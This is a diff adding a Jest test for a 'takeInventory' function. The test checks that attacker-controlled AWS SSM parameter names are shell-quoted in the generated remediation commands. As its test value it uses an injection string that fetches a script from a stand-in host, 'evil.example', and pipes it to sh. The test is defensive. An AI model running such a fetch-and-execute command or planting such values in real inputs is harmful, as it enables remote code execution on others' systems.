@@ -120,6 +120,19 @@ describe('takeInventory', () => {
     expect(sent.every((name) => /^(Get|List)/.test(name))).toBe(true);
   });
 
+  it('quotes every name in a command to copy, so that a name an attacker wrote stays one argument', async () => {
+    const name = '/x;curl -s https://evil.example/p|sh;#';
+    const inventory = await takeInventory(
+      deps,
+      [summary([{ ...risky('GetParameters', [{ type: 'AWS::SSM::Parameter', name }]), category: 'credential-access' }])],
+      'alice',
+    );
+
+    expect(inventory.items.map((item) => item.command)).toEqual([
+      `aws ssm put-parameter --region us-east-1 --name '${name}' --overwrite --value <new value>`,
+    ]);
+  });
+
   it('shows names from CloudTrail inert in the message', async () => {
     iamMock.on(GetUserCommand).resolves({});
 
